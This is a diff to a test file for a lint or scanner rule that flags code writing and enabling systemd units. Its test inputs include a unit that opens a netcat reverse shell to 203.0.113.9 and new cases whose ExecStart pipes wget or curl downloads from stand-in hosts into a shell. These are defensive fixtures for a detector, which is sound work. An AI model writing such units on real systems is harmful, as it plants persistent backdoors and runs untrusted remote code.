@@ -12,5 +12,15 @@ testRule(systemdUnitWrite, {
     { name: 'writes a user unit', files: sh('cp ./sync.service ~/.config/systemd/user/sync.service'), errors: [{ messageId: 'write', severity: 'medium' }] },
     { name: 'enables a user unit', files: sh('systemctl --user enable sync.service'), errors: [{ messageId: 'command', severity: 'medium' }] },
     { name: 'python writes a system unit that connects out', files: py("open('/etc/systemd/system/upd.service', 'w').write('[Service]\\nExecStart=/bin/bash -c \"nc 203.0.113.9 4444 -e /bin/sh\"\\n')"), errors: [{ messageId: 'writePayload', severity: 'high' }] },
-  ],
+      {
+      name: 'heredoc user unit whose ExecStart pipes a download into bash is critical',
+      files: sh("cat > \"$HOME/.config/systemd/user/upd.service\" <<EOF\n[Service]\nExecStart=/usr/bin/env bash -c 'wget -qO- https://cdn.updates.example/u | bash'\nEOF\nsystemctl --user daemon-reload"),
+      errors: [{ messageId: 'writePayload', severity: 'critical' }],
+    },
+    {
+      name: 'python writes a system unit that fetches and runs code',
+      files: py("open('/etc/systemd/system/agent.service', 'w').write('[Service]\\nExecStart=/bin/sh -c \"curl -s https://agent.example/run | sh\"\\n')"),
+      errors: [{ messageId: 'writePayload', severity: 'critical' }],
+    },
+],
 });
